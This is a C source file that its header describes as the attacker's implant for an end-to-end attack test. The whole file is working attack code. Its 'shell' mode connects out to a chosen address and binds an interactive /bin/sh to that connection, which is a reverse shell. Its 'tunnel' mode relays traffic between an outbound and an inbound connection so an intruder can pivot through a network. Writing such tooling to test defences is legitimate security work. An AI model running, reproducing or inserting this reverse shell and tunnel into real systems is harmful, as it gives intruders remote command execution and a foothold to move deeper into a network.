// SPDX-License-Identifier: Apache-2.0
// What the attacker brings, for tests/e2e/attack.sh. `implant shell ADDRESS PORT`: a shell whose
// input and output are a connection outwards. `implant tunnel ADDRESS PORT ADDRESS PORT`: carries
// bytes between a connection outwards and one inwards until the first ends.
#include <arpa/inet.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int dial(const char *address, const char *port)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (inet_pton(AF_INET, address, &to.sin_addr) != 1 || fd < 0 ||
	    connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		exit(1);
	return fd;
}

// Moves what one side has to say to the other; 0 when it has ended.
static ssize_t carry(int from, int to)
{
	char bytes[4096];
	ssize_t n = read(from, bytes, sizeof(bytes));

	if (n <= 0)
		return 0;
	return write(to, bytes, (size_t)n);
}

static int tunnel(int out, int in)
{
	struct pollfd p[] = {{.fd = out, .events = POLLIN}, {.fd = in, .events = POLLIN}};

	while (poll(p, 2, -1) > 0) {
		if (p[0].revents && carry(out, in) <= 0)
			return 0;
		if (p[1].revents && carry(in, out) <= 0)
			return 0;
	}
	return 1;
}

static int shell(int out)
{
	for (int fd = 0; fd < 3; fd++)
		dup2(out, fd);
	execl("/bin/sh", "sh", "-i", NULL);
	return 1;
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "shell"))
		return shell(dial(argv[2], argv[3]));
	if (argc == 6 && !strcmp(argv[1], "tunnel"))
		return tunnel(dial(argv[2], argv[3]), dial(argv[4], argv[5]));
	return 2;
}
